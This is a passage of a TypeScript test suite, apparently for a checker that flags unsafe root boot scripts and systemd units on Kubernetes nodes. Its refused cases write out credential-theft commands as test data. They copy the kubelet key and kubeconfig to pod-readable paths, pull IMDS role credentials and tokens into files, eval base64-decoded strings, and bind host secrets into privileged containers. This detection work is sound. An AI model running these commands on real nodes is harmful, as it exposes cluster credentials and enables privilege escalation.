                "NoNewPrivileges=yes",
                "ExecStartPre=+/usr/bin/install -d -o v /data/v",
                "ExecStart=/usr/bin/prog --data-dir=/data/v",
            ),
    },
    {
        name: "AmbientCapabilities=CAP_NET_BIND_SERVICE with a /data argument",
        reads: () =>
            unit(
                "User=v",
                "NoNewPrivileges=yes",
                "AmbientCapabilities=CAP_NET_BIND_SERVICE",
                "ExecStart=/usr/bin/prog --data-dir=/data/v",
            ),
    },
    {
        name: "su -s /bin/sh v -c with a /data argument",
        reads: () => shell("su -s /bin/sh v -c '/usr/bin/prog init --home /data/v'"),
    },
    {
        name: "setpriv --reuid=v with a /data argument",
        reads: () =>
            shell("setpriv --reuid=v --regid=v --init-groups --no-new-privs /usr/bin/prog init --home /data/v"),
    },
];

describeReads("root reads: round 35 node neighbours (rootReads.ts, userData.ts)", round35);

const round36: ReadCase[] = [
    // Refused: hard links make the node's file the pods' (link(2)).
    {
        name: "ln -fP of a root-run script into /srv",
        reads: () => shell("ln -fP /usr/local/sbin/rotate.sh /srv/tools/rotate.sh"),
        refused: /hard-links \/usr\/local\/sbin\/rotate\.sh into \/srv\/tools\/rotate\.sh/,
    },
    {
        name: "ln -t /data/bin with a node binary (hard link into a target directory)",
        reads: () => shell("ln -t /data/bin /usr/bin/aws"),
        refused: /hard-links \/usr\/bin\/aws/,
    },
    {
        name: "cp --link -r of /etc/cron.d into /mnt/backup",
        reads: () => shell("cp --link -r /etc/cron.d /mnt/backup/cron.d"),
        refused: /hard-links \/etc\/cron\.d/,
    },
    {
        name: "rsync --link-dest=/etc into /data/etc-snapshot",
        reads: () => shell("rsync -a --link-dest=/etc /etc/ /data/etc-snapshot/"),
        refused: /hard-links \/etc/,
    },
    // Refused: node secrets copied to any node path outside NODE_SECRETS (a read-only hostPath may mount it).
    {
        name: "the kubelet's kubeconfig copied to /root (a read-only hostPath of /root is admitted)",
        reads: () => shell("cp /var/lib/kubelet/kubeconfig /root/kubeconfig.bak"),
        refused: /copies \/var\/lib\/kubelet\/kubeconfig/,
    },
    {
        name: "the kubelet's client certificate redirected into /opt/backup",
        reads: () => shell("cat /var/lib/kubelet/pki/kubelet-client-current.pem > /opt/backup/kubelet.pem"),
        refused: /kubelet-client-current\.pem/,
    },
    // Refused: a here-document fed to a loop whose body runs or reads what it names.
    {
        name: "a while-read loop running each line's script as root",
        reads: () => shell("while read -r s; do", '  bash "$s"', "done <<'EOF'", "/data/hooks/pre.sh", "EOF"),
        refused: /\/data\/hooks\/pre\.sh/,
    },
    {
        name: "a while-read loop (IFS=:) sourcing the second field",
        reads: () =>
            shell("while IFS=: read -r dev conf; do", '  . "$conf"', "done <<'EOF'", "/dev/nvme1n1:/srv/env.sh", "EOF"),
        refused: /\/srv\/env\.sh/,
    },
    {
        name: "a loop whose body's bash reads the here-document as its script",
        reads: () => shell("for i in 1; do", "  bash", "done <<'EOF'", "/data/run.sh", "EOF"),
        refused: /\/data\/run\.sh/,
    },
    {
        name: "read -u 3 in the loop header (the here-document is not what read reads)",
        reads: () => shell("while read -u 3 -r d; do", '  mkdir -p "$d"', "done <<'EOF'", "/data/x", "EOF"),
        refused: /\/data/,
    },
    {
        name: "xfs_io -c 'pwrite -i' copying from /data",
        reads: () => shell("xfs_io -f -c 'pwrite -i /data/seed 0 4k' /var/lib/seed"),
        refused: /\/data/,
    },
    {
        name: "xfs_io reflink from /srv onto a node binary",
        reads: () => shell("xfs_io -c 'reflink /srv/a' /usr/local/bin/tool"),
        refused: /\/srv/,
    },
    // DECIDED (round 36): /etc holds /etc/kubernetes (NODE_SECRETS); an archive of it outside NODE_SECRETS is a path a
    // read-only hostPath may mount.
    {
        name: "tar of /etc into /backup",
        reads: () => shell("tar --exclude=/data -czf /backup/etc.tgz /etc"),
        refused: /copies \/etc, /,
    },
    // Refused: a variable holding credentials, printed where pods read them.
    {
        name: "node-role credentials in a variable echoed into /srv",
        reads: () =>
            shell(
                "CREDS=$(curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/node-role)",
                'echo "$CREDS" > /srv/creds.json',
            ),
        refused: /through a variable holding it.*\/srv\/creds\.json/,
    },
    {
        name: "an IMDSv2 token in a variable printed with printf into tee /mnt/t",
        reads: () =>
            shell(
                "TOKEN=$(curl -s -X PUT http://169.254.169.254/latest/api/token -H 'X-aws-ec2-metadata-token-ttl-seconds: 60')",
                "printf '%s' \"${TOKEN}\" | tee /mnt/t",
            ),
        refused: /through a variable holding it.*\/mnt\/t/,
    },
    {
        name: "an IMDSv2 token in a variable written by a here-document into /data",
        reads: () =>
            shell(
                "TOKEN=$(curl -s -X PUT http://169.254.169.254/latest/api/token -H 'X-aws-ec2-metadata-token-ttl-seconds: 60')",
                "cat > /data/token <<EOF",
                "$TOKEN",
                "EOF",
            ),
        refused: /through a variable holding it.*\/data\/token/,
    },
    {
        name: "set -x after capturing the token, then curl -H with it (the trace prints it)",
        reads: () =>
            shell(
                "TOKEN=$(curl -s -X PUT http://169.254.169.254/latest/api/token -H 'X-aws-ec2-metadata-token-ttl-seconds: 60')",
                "set -x",
                'curl -s -H "X-aws-ec2-metadata-token: $TOKEN" http://169.254.169.254/latest/meta-data/instance-id',
            ),
        refused: /set -x traces.*cloud-init-output/,
    },
    // Accepted.
    {
        name: "ln -s of a node file into /data (resolved inside the pod's own root)",
        reads: () => shell("ln -sf /etc/ssl/certs/ca-bundle.crt /data/certs/ca.crt"),
    },
    {
        name: "a hard link within /data",
        reads: () => shell("ln /data/validator/db/v1 /data/validator/db/current"),
    },
    {
        name: "the kubelet's kubeconfig backed up inside /var/lib/kubelet",
        reads: () => shell("cp /var/lib/kubelet/kubeconfig /var/lib/kubelet/kubeconfig.orig"),
    },
    {
        name: "the cluster CA copied to /etc/pki/ca-trust/source/anchors (public)",
        reads: () => shell("cp /etc/kubernetes/pki/ca.crt /etc/pki/ca-trust/source/anchors/eks.crt"),
    },
    {
        name: "a while-read loop (IFS=,) over a here-document table making and owning directories",
        reads: () =>
            shell(
                "while IFS=, read -r dir owner; do",
                '  install -d -m 0750 "$dir"',
                '  chown "$owner" "$dir"',
                "done <<'EOF'",
                "/data/validator,10001",
                "/srv/signer,10002",
                "EOF",
            ),
    },
    {
        name: "the token variable reassigned before it is echoed into /srv",
        reads: () =>
            shell(
                "TOKEN=$(curl -s -X PUT http://169.254.169.254/latest/api/token -H 'X-aws-ec2-metadata-token-ttl-seconds: 60')",
                "TOKEN=none",
                'echo "$TOKEN" > /srv/t',
            ),
    },
    {
        name: "the token variable unset before it is echoed into /srv",
        reads: () =>
            shell(
                "TOKEN=$(curl -s -X PUT http://169.254.169.254/latest/api/token -H 'X-aws-ec2-metadata-token-ttl-seconds: 60')",
                "unset TOKEN",
                'echo "$TOKEN" > /srv/t',
            ),
    },
    {
        name: "the token used as a header, the instance id saved into /data",
        reads: () =>
            shell(
                "TOKEN=$(curl -s -X PUT http://169.254.169.254/latest/api/token -H 'X-aws-ec2-metadata-token-ttl-seconds: 60')",
                'curl -s -H "X-aws-ec2-metadata-token: $TOKEN" http://169.254.169.254/latest/meta-data/instance-id > /data/instance-id',
            ),
    },
    {
        name: "xfs_io setting project ids and an extent size hint under /srv",
        reads: () => shell("xfs_io -r -c 'chproj 42' -c 'lsproj' /srv/ledger"),
    },
];

describeReads("root reads: round 36 node neighbours (rootReads.ts)", round36);

const KUBELET_KEY = "/var/lib/kubelet/pki/kubelet-client-current.pem";
const round37: ReadCase[] = [
    // Refused: node secrets through standard input, descriptors and pipes, and printed to the script's output.
    {
        name: "the kubelet key base64-encoded through a pipe into /mnt",
        reads: () => shell(`base64 -w0 ${KUBELET_KEY} | tr -d '\\n' > /mnt/k.b64`),
        refused: /kubelet-client-current\.pem.*\/mnt\/k\.b64/,
    },
    {
        name: "the kubelet key through cat | gzip | tee into /opt (a read-only hostPath may mount it)",
        reads: () => shell(`cat ${KUBELET_KEY} | gzip -c | tee /opt/k.gz >/dev/null`),
        refused: /kubelet-client-current\.pem.*\/opt\/k\.gz/,
    },
    {
        name: "dd of=/data/k reading the key from standard input",
        reads: () => shell(`dd of=/data/k status=none < ${KUBELET_KEY}`),
        refused: /kubelet-client-current\.pem.*\/data\/k/,
    },
    {
        name: "install -m 0600 /dev/stdin /srv/k with the key redirected",
        reads: () => shell(`install -m 0600 /dev/stdin /srv/k < ${KUBELET_KEY}`),
        refused: /kubelet-client-current\.pem.*\/srv\/k/,
    },
    {
        name: "exec 4< the kubeconfig, then tee /data/kc <&4",
        reads: () => shell("exec 4< /var/lib/kubelet/kubeconfig", "tee /data/kc <&4 >/dev/null"),
        refused: /kubeconfig.*\/data\/kc/,
    },
    {
        name: "head of the kubelet key printed to the script's output",
        reads: () => shell(`head -n 3 ${KUBELET_KEY}`),
        refused: /kubelet-client-current\.pem.*cloud-init-output/,
    },
    {
        name: "openssl printing the kubelet key (no -noout)",
        reads: () => shell(`openssl pkey -in ${KUBELET_KEY}`),
        refused: /kubelet-client-current\.pem.*cloud-init-output/,
    },
    // Refused: namerefs, printf substitutions and container binds leading to data directories.
    {
        name: "typeset -n chained through two namerefs to /srv",
        reads: () => shell("T=/srv/hooks/pre.sh", "typeset -n A=T", "declare -n B=A", '. "$B"'),
        refused: /\/srv\/hooks\/pre\.sh/,
    },
    {
        name: "a nameref declared before its target is assigned",
        reads: () => shell("declare -n R=D", "D=/data/run.sh", 'bash "$R"'),
        refused: /\/data\/run\.sh/,
    },
    {
        name: "P=$(printf '%s%s' /sr v) then sh $P/x",
        reads: () => shell("P=$(printf '%s%s' /sr v)", 'sh "$P/x.sh"'),
        refused: /\/srv\/x\.sh/,
    },
    {
        name: "docker run -v /:/host running /host/srv/boot.sh",
        reads: () => shell("docker run --rm --privileged -v /:/host busybox sh /host/srv/boot.sh"),
        refused: /\/srv\/boot\.sh/,
    },
    {
        name: "nerdctl run --mount type=bind,source=/run,target=/r running /r/spire/x",
        reads: () => shell("nerdctl run --rm --mount type=bind,source=/run,target=/r img /r/spire/x"),
        refused: /\/run\/spire\/x/,
    },
    {
        name: "a unit's ExecStart after a lone ; running /data (systemd command lines)",
        reads: () => unit("ExecStart=/usr/bin/true ; /bin/sh /data/x.sh"),
        refused: /\/data\/x\.sh/,
    },
    {
        name: "a unit's ExecStart with the | prefix (a shell line) reading /srv",
        reads: () => unit("ExecStart=|/usr/bin/prog < /srv/in"),
        refused: /\/srv\/in/,
    },
    {
        name: "a unit's ExecStart with > as an argument (no redirection: /data is the root program's operand)",
        reads: () => unit("ExecStart=/usr/bin/prog --threshold > /data"),
        refused: /\/data/,
    },
    // Accepted.
    {
        name: "sha256sum of the kubelet key printed",
        reads: () => shell(`sha256sum ${KUBELET_KEY}`),
    },
    {
        name: "openssl -noout -subject of the kubelet certificate",
        reads: () => shell(`openssl x509 -in ${KUBELET_KEY} -noout -subject -enddate`),
    },
    {
        name: "grep -q in the kubelet kubeconfig",
        reads: () => shell("grep -q 'server:' /var/lib/kubelet/kubeconfig && echo ok"),
    },
    {
        name: "the kubelet key piped into sha256sum (a digest)",
        reads: () => shell(`cat ${KUBELET_KEY} | sha256sum`),
    },
    {
        name: "a nameref to a sysctl value",
        reads: () => shell("V=1", "declare -n R=V", 'sysctl -w net.ipv4.ip_forward="$R"'),
    },
    {
        name: "docker run -v /opt/tools:/t running /t/bin/setup",
        reads: () => shell("docker run --rm -v /opt/tools:/t img /t/bin/setup"),
    },
    {
        name: "a unit's unquoted regex with | and $$ in ExecStart (no shell pipe)",
        reads: () =>
            unit(
                "ExecStart=/usr/bin/node_exporter --collector.filesystem.mount-points-exclude=^/(dev|proc|sys|run/spire)($$|/)",
            ),
    },
];

describeReads("root reads: round 37 node neighbours (rootReads.ts, shell.ts)", round37);

const round38: ReadCase[] = [
    // Refused: aliases, arrays and read, substitutions and here-documents holding secrets, tar pipes, credentials.
    {
        name: "alias cp='bash' then cp /srv/x (the alias runs the data file)",
        reads: () => shell("alias cp='bash'", "cp /srv/x.sh /tmp/y"),
        refused: /\/srv\/x\.sh/,
    },
    {
        name: "readarray of the kubeconfig printed into /mnt",
        reads: () => shell("readarray -t A < /var/lib/kubelet/kubeconfig", 'echo "${A[@]}" > /mnt/kc'),
        refused: /kubeconfig.*\/mnt\/kc/,
    },
    {
        name: "K=$(< KEY) printed with printf into /opt",
        reads: () => shell(`K=$(< ${KUBELET_KEY})`, "printf '%s' \"$K\" > /opt/k"),
        refused: /kubelet-client-current\.pem.*\/opt\/k/,
    },
    {
        name: "K=$(cat KEY) echoed to the script's output",
        reads: () => shell(`K=$(cat ${KUBELET_KEY})`, 'echo "$K"'),
        refused: /kubelet-client-current\.pem.*cloud-init-output/,
    },
    {
        name: "an unquoted here-document substituting $(cat KEY) into /data",
        reads: () => shell("cat > /data/k <<EOF", `$(cat ${KUBELET_KEY})`, "EOF"),
        refused: /kubelet-client-current\.pem.*\/data\/k/,
    },
    {
        name: "a tar pipe from the kubelet's directory into /opt/pki",
        reads: () => shell("tar -cf - -C /var/lib/kubelet pki | tar -xf - -C /opt/pki"),
        refused: /\/var\/lib\/kubelet.*\/opt\/pki/,
    },
    {
        name: "a root unit copying its LoadCredential= kubelet key into /data",
        reads: () =>
            unit(`LoadCredential=kc:${KUBELET_KEY}`, "ExecStart=/bin/cp ${CREDENTIALS_DIRECTORY}/kc /data/kc.pem"),
        refused: /\/run\/credentials\/x\.service\/kc.*\/data\/kc\.pem/,
    },
    // Accepted.
    {
        name: "alias ll='ls -l' then ll /data",
        reads: () => shell("alias ll='ls -l'", "ll /data"),
    },
    {
        name: "unalias before the command",
        reads: () => shell("alias mkdir='source'", "unalias mkdir", "mkdir -p /data/x"),
    },
    {
        name: "a single-quoted bash -c wait loop with a command substitution",
        reads: () =>
            shell(`timeout 600 bash -c 'until [ "$(systemctl is-active containerd)" = active ]; do sleep 2; done'`),
    },
    {
        name: "a quoted here-document holding a literal $(...) written to /etc",
        reads: () => shell("cat > /etc/profile.d/prompt.sh <<'EOF'", 'PS1="$(hostname) # "', "EOF"),
    },
    {
        name: "openssl verify of the kubelet certificate against the cluster CA",
        reads: () => shell(`openssl verify -CAfile /etc/kubernetes/pki/ca.crt ${KUBELET_KEY}`),
    },
    {
        name: "read of /etc/hostname echoed into /data",
        reads: () => shell("read -r H < /etc/hostname", 'echo "$H" > /data/hostname'),
    },
    {
        name: "a root unit naming its LoadCredential= kubeconfig as an argument",
        reads: () =>
            unit(
                "LoadCredential=kc:/var/lib/kubelet/kubeconfig",
                "ExecStart=/usr/bin/agent --kubeconfig ${CREDENTIALS_DIRECTORY}/kc",
            ),
    },
];

describeReads("root reads: round 38 node neighbours (rootReads.ts, shell.ts, podSpec.ts)", round38);

const round39: ReadCase[] = [
    // Refused: programs, scripts and eval text the reader cannot know.
    {
        name: "bash $P where P is decoded by base64 -d",
        reads: () => shell("P=$(printf %s L2RhdGEvYi5zaA== | base64 -d)", 'bash "$P"'),
        refused: /program made at boot/,
    },
    {
        name: "a program path from an unknown substitution",
        reads: () => shell('"$(curl -s https://example.com/which)" --init'),
        refused: /program made at boot/,
    },
    {
        name: "eval of a decoded string",
        reads: () => shell('eval "$(echo YmFzaCAveA== | base64 -d)"'),
        refused: /program made at boot/,
    },
    {
        name: "a privileged container binding /data",
        reads: () => shell("docker run --rm --privileged -v /data/v:/v img /v/run.sh"),
        refused: /\/data\/v/,
    },
    {
        name: "a container binding /etc read-write and /data",
        reads: () => shell("docker run --rm -v /etc:/host-etc -v /data/v:/v img sh /v/run.sh"),
        refused: /\/data\/v/,
    },
    {
        name: "a container on the host network with /srv bound",
        reads: () => shell("nerdctl run --rm --network host -v /srv/a:/a img /a/run"),
        refused: /\/srv\/a/,
    },
    {
        name: "a container binding the kubelet's directory read-only and /data",
        reads: () => shell("docker run --rm -v /var/lib/kubelet:/k:ro -v /data/v:/v img cp -r /k /v"),
        refused: /\/data\/v|kubelet/,
    },
    // Accepted.
    {
        name: "eval of a credentials export (sets variables only)",
        reads: () => shell('eval "$(aws configure export-credentials --format env)"', "aws sts get-caller-identity"),
    },
    {
        name: "an unprivileged container with /data read-write and /etc/app read-only",
        reads: () =>
            shell(
                "docker run --rm --user 10001 -v /etc/app:/config:ro -v /data/v:/v img init --home /v --config /config",
            ),
    },
    {
        name: "openssl x509 -checkend of the kubelet certificate (prints the certificate, not the key)",
        reads: () => shell(`openssl x509 -in ${KUBELET_KEY} -checkend 86400`),
    },
];

describeReads("root reads: round 39 node neighbours (rootReads.ts)", round39);

const round40: ReadCase[] = [
    {
        name: "a container binding /etc/kubernetes read-only (node secrets handed to it)",
        reads: () => shell("docker run -d -v /etc/kubernetes:/k:ro img"),
        refused: /copies \/etc\/kubernetes/,
    },
    {
        name: "a container with seccomp=unconfined and /data bound",
        reads: () => shell("docker run --rm --security-opt seccomp=unconfined -v /data/v:/v img /v/run"),
        refused: /\/data\/v/,
    },
    {
        name: "a container with --security-opt=apparmor=unconfined and /srv bound",
        reads: () => shell("podman run --rm --security-opt=apparmor=unconfined -v /srv/a:/a img /a/run"),
        refused: /\/srv\/a/,
    },
    {
        name: "a container with --security-opt=no-new-privileges:true and /data bound (tighter)",
        reads: () => shell("docker run --rm --security-opt=no-new-privileges:true -v /data/v:/v img init --home /v"),
    },
];

describeReads("root reads: round 40 node neighbours (rootReads.ts)", round40);

const round41: ReadCase[] = [
    {
        name: "a bind volume of /etc/kubernetes made and never used (its node secrets are handed to any container)",
        reads: () => shell("podman volume create --opt type=none --opt o=bind --opt device=/etc/kubernetes kube"),
        refused: /\/etc\/kubernetes/,
    },
    {
        name: "an unnamed bind volume of the kubelet's directory (its name is the command's output)",
        reads: () => shell('V="$(docker volume create -o type=none -o o=rbind -o device=/var/lib/kubelet)"'),
        refused: /\/var\/lib\/kubelet/,
    },
    {
        name: "a bind volume of /srv/a mounted by a privileged container running /a/run",
        reads: () =>
            shell(
                "docker volume create -o type=none -o o=bind -o device=/srv/a srv-a",
                "docker run --rm --privileged -v srv-a:/a img /a/run",
            ),
        refused: /\/srv\/a/,
    },
    {
        name: "docker container create with SYS_ADMIN added and /data bound",
        reads: () => shell("docker container create --cap-add SYS_ADMIN -v /data/v:/v img /v/run"),
        refused: /\/data\/v/,
    },
    {
        name: "--cap-add=NET_BIND_SERVICE,SYS_ADMIN (one capability outside the Baseline list) with /data bound",
        reads: () => shell("docker run --rm --cap-add=NET_BIND_SERVICE,SYS_ADMIN -v /data/v:/v img /v/run"),
        refused: /\/data\/v/,
    },
    {
        name: "--cap-add ALL with /data bound",
        reads: () => shell("nerdctl run --rm --cap-add ALL -v /data/v:/v img /v/run"),
        refused: /\/data\/v/,
    },
    {
        name: "--privileged=1 with /data bound",
        reads: () => shell("docker run --rm --privileged=1 -v /data/v:/v img /v/run"),
        refused: /\/data\/v/,
    },
    {
        name: "ctr container create binding the kubelet's pki",
        reads: () =>
            shell("ctr -n k8s.io c create --mount type=bind,src=/var/lib/kubelet/pki,dst=/pki,options=rbind:ro img c1"),
        refused: /\/var\/lib\/kubelet\/pki/,
    },
    // Accepted.
    {
        name: "docker container create of an unprivileged container with /data bound, then docker start",
        reads: () =>
            shell("docker container create --name v --user 10001 -v /data/v:/v img init --home /v", "docker start v"),
    },
    {
        name: "a bind volume of /data/v used by an unprivileged container",
        reads: () =>
            shell(
                "docker volume create -o type=none -o o=bind -o device=/data/v data-v",
                "docker run --rm --user 10001 -v data-v:/v img init --home /v",
            ),
    },
    {
        name: "an NFS volume (the local driver's type=nfs: not a node path)",
        reads: () =>
            shell(
                "docker volume create -o type=nfs -o o=addr=10.0.0.5,rw -o device=:/exports/cache cache",
                "docker run --rm --user 10001 -v cache:/cache img serve --cache /cache",
            ),
    },
    {
        name: "docker network create, then an unprivileged container on that network with /data bound",
        reads: () =>
            shell(
                "docker network create custody-net",
                "docker run --rm --network custody-net --user 10001 -v /data/v:/v img init --home /v",
            ),
    },
    {
        name: "--cap-drop ALL --cap-add=CHOWN,SETUID (Baseline capabilities) with /data bound",
        reads: () => shell("docker run --rm --cap-drop ALL --cap-add=CHOWN,SETUID -v /data/v:/v img init --home /v"),
    },
];

describeReads("root reads: round 41 node neighbours (rootReads.ts)", round41);

const round42: ReadCase[] = [
    {
        name: "-itv (a shorthand cluster ending in v) binding the kubelet's directory",
        reads: () => shell("docker run -itv /var/lib/kubelet:/k img"),
        refused: /\/var\/lib\/kubelet/,
    },
    {
        name: "-v/etc/kubernetes:/k (a shorthand with its value glued)",
        reads: () => shell("podman run -d -v/etc/kubernetes:/k img"),
        refused: /\/etc\/kubernetes/,
    },
    {
        name: "an option the pack does not know, followed by a node secret",
        reads: () => shell("docker run --some-new-flag /var/lib/kubelet/pki img"),
        refused: /\/var\/lib\/kubelet\/pki/,
    },
    {
        name: "an unknown option before a /data bind (not pod-like: /data read as root's)",
        reads: () => shell("docker run --some-new-flag -v /data/v:/v img /v/run"),
        refused: /\/data\/v/,
    },
    {
        name: "--security-opt label=disable with /data bound",
        reads: () => shell("podman run --rm --security-opt label=disable -v /data/v:/v img /v/run"),
        refused: /\/data\/v/,
    },
    {
        name: "--security-opt systempaths=unconfined with /data bound",
        reads: () => shell("docker run --rm --security-opt systempaths=unconfined -v /data/v:/v img /v/run"),
        refused: /\/data\/v/,
    },
    {
        name: "--pid host with /data bound",
        reads: () => shell("docker run --rm --pid=host -v /data/v:/v img /v/run"),
        refused: /\/data\/v/,
    },
    {
        name: "--network container:other with /data bound",
        reads: () => shell("docker run --rm --network container:agent -v /data/v:/v img /v/run"),
        refused: /\/data\/v/,
    },
    {
        name: "a volume on a disk of the node (type=ext4, device=/dev/nvme1n1)",
        reads: () => shell("docker volume create -o type=ext4 -o device=/dev/nvme1n1 disk"),
        refused: /copies \//,
    },
    {
        name: "docker cp of the kubelet's kubeconfig into a container",
        reads: () => shell("docker cp /var/lib/kubelet/kubeconfig agent:/etc/kubeconfig"),
        refused: /\/var\/lib\/kubelet\/kubeconfig/,
    },
    {
        name: "a Quadlet .kube unit written by a here-document",
        reads: () =>
            shell("cat > /etc/containers/systemd/agent.kube <<EOF", "[Kube]", "Yaml=/etc/agent/pod.yaml", "EOF"),
        refused: /Quadlet/,
    },
    {
        name: "docker compose up",
        reads: () => shell("docker compose -f /etc/agent/compose.yaml up -d"),
        refused: /definition the pack does not read/,
    },
    // Accepted.
    // Round 71: started by the script (an exec into a container it did not start is unknown: rootReads containerExec).
    {
        name: "docker exec running a command on a container path named like a node secret",
        reads: () =>
            shell("docker run -d --name agent --user 10001 img", "docker exec agent cat /var/lib/kubelet/config.yaml"),
    },
    {
        name: "nerdctl with a global --address of containerd's socket running an unprivileged container",
        reads: () =>
            shell(
                "nerdctl --address /run/containerd/containerd.sock -n k8s.io run -d --user 10001 -v /data/v:/v img init --home /v",
            ),
    },
    {
        name: "docker run with -e, -p 8080:8080, --tmpfs, --ulimit and a read-only /etc/app bind",
        reads: () =>
            shell(
                "docker run -d -e MODE=agent -p 8080:8080 --tmpfs /tmp --ulimit nofile=65536:65536 -v /etc/app:/config:ro img serve",
            ),
    },
    {
        name: "docker compose ps and logs (start nothing)",
        reads: () => shell("docker compose -f /etc/agent/compose.yaml ps", "docker compose logs agent"),
    },
    {
        name: "a plain named volume (no device) for an unprivileged container",
        reads: () => shell("docker volume create cache", "docker run -d --user 10001 -v cache:/cache img serve"),
    },
];

describeReads("root reads: round 42 node neighbours (containers.ts, rootReads.ts)", round42);

const round43: ReadCase[] = [
    {
        name: "--mount with quoted CSV fields and upper-case keys binding the kubelet's pki",
        reads: () => shell(`docker run --mount 'Type=Bind,"Source=/var/lib/kubelet/pki",Target=/pki' img`),
        refused: /\/var\/lib\/kubelet\/pki/,
    },
    {
        name: "-v ../kubelet:/k from /var/lib/cni (a relative source)",
        reads: () => shell("cd /var/lib/cni", "docker run -v ../kubelet:/k img"),
        refused: /\/var\/lib\/kubelet/,
    },
    {
        name: "--mount type=devpts (a type the pack does not read) with /data bound",
        reads: () => shell("podman run --mount type=devpts,destination=/dev/pts -v /data/v:/v img /v/run"),
        refused: /\/data\/v/,
    },
    {
        name: "--network pasta with /data bound",
        reads: () => shell("podman run --network pasta -v /data/v:/v img /v/run"),
        refused: /\/data\/v/,
    },
    {
        name: "a global --runtime before run with /data bound",
        reads: () => shell("podman --runtime /usr/local/bin/crun-custom run -v /data/v:/v img /v/run"),
        refused: /\/data\/v/,
    },
    {
        name: "podman --env-host with the node role's credentials exported",
        reads: () =>
            shell(
                'export AWS_SECRET_ACCESS_KEY="$(curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/node-role)"',
                "podman run -d --env-host img",
            ),
        refused: /./,
    },
    {
        name: "docker exec --privileged into a container the script did not start",
        reads: () => shell("docker exec --privileged agent sh /state/start.sh"),
        refused: /definition the pack does not read|did not start/,
    },
    {
        name: "docker exec (no extra powers) into a container the script did not start (round 71)",
        reads: () => shell("docker exec agent cat /var/lib/kubelet/config.yaml"),
        refused: /did not start/,
    },
    {
        name: "docker cp out of a container's /data bind into /etc/cron.d",
        reads: () =>
            shell("docker run -d --name agent -v /data/agent:/state img", "docker cp agent:/state/job /etc/cron.d/job"),
        refused: /\/data\/agent/,
    },
    // Accepted.
    {
        name: "-e NAME of a harmless exported variable",
        reads: () => shell("export CLUSTER_NAME=dev", "docker run -d --user 10001 -e CLUSTER_NAME img serve"),
    },
    {
        name: "docker exec -it into a started container (no extra powers)",
        reads: () =>
            shell(
                "docker run -d --name agent --user 10001 -v /data/agent:/state img",
                "docker exec -it agent sh /state/check.sh",
            ),
    },
    {
        name: "--network name=custody-net,alias=agent (docker's CSV form of a user network)",
        reads: () =>
            shell("docker run -d --user 10001 --network name=custody-net,alias=agent -v /data/v:/v img init --home /v"),
    },
    {
        name: "--mount type=bind with quoted fields of a data directory",
        reads: () =>
            shell(`docker run -d --user 10001 --mount 'type=bind,"source=/data/v",target=/v' img init --home /v`),
    },
    {
        name: "docker cp of a report out of a container into /var/tmp",
        reads: () =>
            shell(
                "docker run -d --name agent --user 10001 img",
                "docker cp agent:/reports/today.json /var/tmp/report.json",
            ),
    },
];

describeReads("root reads: round 43 node neighbours (containers.ts, rootReads.ts)", round43);

const round44: ReadCase[] = [
    {
        name: "podman --tls-verify=false (an image from an unverified registry) with /data bound",
        reads: () => shell("podman run --rm --tls-verify=false -v /data/v:/v img /v/run"),
        refused: /\/data\/v/,
    },
    {
        name: "--storage-opt with a key other than size, with /data bound",
        reads: () => shell("docker run --rm --storage-opt dm.basesize=20G -v /data/v:/v img /v/run"),
        refused: /\/data\/v/,
    },
    // Accepted.
    {
        name: "ctr run --cpu-quota/--cpu-period with /data bound",
        reads: () =>
            shell(
                "ctr -n agents run -d --cpu-quota 50000 --cpu-period 100000 --mount type=bind,src=/data/v,dst=/v,options=rbind:rw img v1",
            ),
    },
    {
        name: "podman run with an exported harmless proxy (passed by --http-proxy's default)",
        reads: () =>
            shell(
                "export HTTPS_PROXY=http://proxy.internal:3128",
                "podman run -d --user 10001 -v /data/v:/v img init --home /v",
            ),
    },
];

describeReads("root reads: round 44 node neighbours (containers.ts)", round44);

// printf(1) (coreutils and bash's builtin): the FORMAT's escapes and %b's argument are decoded; %s prints its argument
// as written, so `printf '%s' 'a\nb'` writes a backslash and an n, one line.
describe("root reads: printf's output as printf(1) computes it (engine/rootReads.ts printfOutput)", () => {
    const cases: [string, string[], string][] = [
        ["%s prints its argument as written", ["%s\\n", "a\\nb"], "a\\nb\n"],
        ["%b decodes its argument's escapes", ["%b", "a\\nb\\057"], "a\nb/"],
        ["the format's escapes are decoded", ["\\057etc\\n"], "/etc\n"],
        ["an escaped percent in the format starts no conversion", ["\\045s %s", "x"], "%s x"],
        ["%% is one percent", ["100%% %s", "done"], "100% done"],
        ["the format is reused while arguments remain", ["%s=%s\\n", "A", "1", "B", "2"], "A=1\nB=2\n"],
        ["-v VAR FORMAT prints to the variable", ["-v", "x", "%s", "y"], "y"],
    ];
    for (const [name, operands, output] of cases) it(name, () => assert.strictEqual(printfOutput(operands), output));
});

// mktemp(1) makes a new file (u+rw) or directory (-d, u+rwx) of a random name: root's alone, so a file below it is no
// local user's plant (RootReads.planted privateTemps); once the script opens it to others, or names the template
// literally (another user may have made that path), it is.
describe("root reads: what mktemp made is root's alone (engine/rootReads.ts RootReads.planted)", () => {
    it("accepts a program run below a mktemp -d directory", () =>
        assert.deepStrictEqual(shell("set -e", 'D="$(mktemp -d)"', 'cd "$D"', "./aws/install --update"), []));
    it("refuses it once the script opens the directory (chmod 1777)", () =>
        assert.match(shell("set -e", 'D="$(mktemp -d)"', 'chmod 1777 "$D"', 'bash "$D/x.sh"').join("\n"), /x\.sh/));
    it("refuses a literal template path (not what mktemp made)", () =>
        assert.match(shell("set -e", "bash /tmp/tmp.XXXXXXXXXX/x.sh").join("\n"), /world-writable/));
});

// Round 86: a fetch is vouched for by a signature check or by a verified transport; neither leaves it unvouched
// (rpm macros.in %_pkgverify_level digest, dnf.conf(5) localpkg_gpgcheck default False, ctr(8), git-config(1)).
describe("root reads: fetches nobody vouches for (engine/rootReads.ts, round 86)", () => {
    it("an http:// rpm at rpm's default level is unsigned over plain HTTP", () =>
        assert.deepStrictEqual(packageCheckOffSwitches("rpm", ["-Uvh", "http://r/x.rpm"]), [
            "%_pkgverify_level digest",
            "http://r/x.rpm",
        ]));
    it("a required signature, or https, vouches", () => {
        assert.deepStrictEqual(
            packageCheckOffSwitches("rpm", ["-D", "_pkgverify_level all", "-i", "http://r/x.rpm"]),
            [],
        );
        assert.deepStrictEqual(packageCheckOffSwitches("rpm", ["-ivh", "https://r/x.rpm"]), []);
        assert.deepStrictEqual(packageCheckOffSwitches("rpm", ["-qip", "http://r/x.rpm"]), []);
    });
    it("dnf install of an http:// rpm checks its signature only with localpkg_gpgcheck on", () => {
